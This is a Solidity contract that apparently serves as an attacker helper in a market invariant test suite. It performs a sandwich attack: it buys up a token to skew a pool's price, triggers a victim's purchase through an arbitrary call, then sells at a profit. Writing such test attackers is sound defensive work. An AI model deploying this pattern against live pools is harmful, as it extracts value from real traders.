// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {CountingToken} from "../../invariants/market/CountingToken.sol";
import {HonestPool} from "../../invariants/market/HonestPool.sol";

/// @notice Makes the token dear, has the victim buy it, and sells.
contract SkewingAttack {
    HonestPool private immutable pool;
    CountingToken private immutable weth;
    CountingToken private immutable token;

    constructor(HonestPool pool_, CountingToken weth_, CountingToken token_) {
        (pool, weth, token) = (pool_, weth_, token_);
    }

    /// @notice Buys most of the token, has the victim buy at the price that results, and sells again.
    /// @param entry who is called so that the victim buys
    function attack(address entry, bytes calldata buy) external {
        _exchange(weth, token, weth.balanceOf(address(this)));
        (bool ignored,) = entry.call(buy);
        ignored;
        _exchange(token, weth, token.balanceOf(address(this)));
    }

    function _exchange(CountingToken tokenIn, CountingToken tokenOut, uint256 amount) private {
        tokenIn.approve(address(pool), amount);
        (uint256 i, uint256 j) = address(tokenIn) < address(tokenOut) ? (0, 1) : (1, 0);
        pool.exchange(i, j, amount, 0);
    }
}
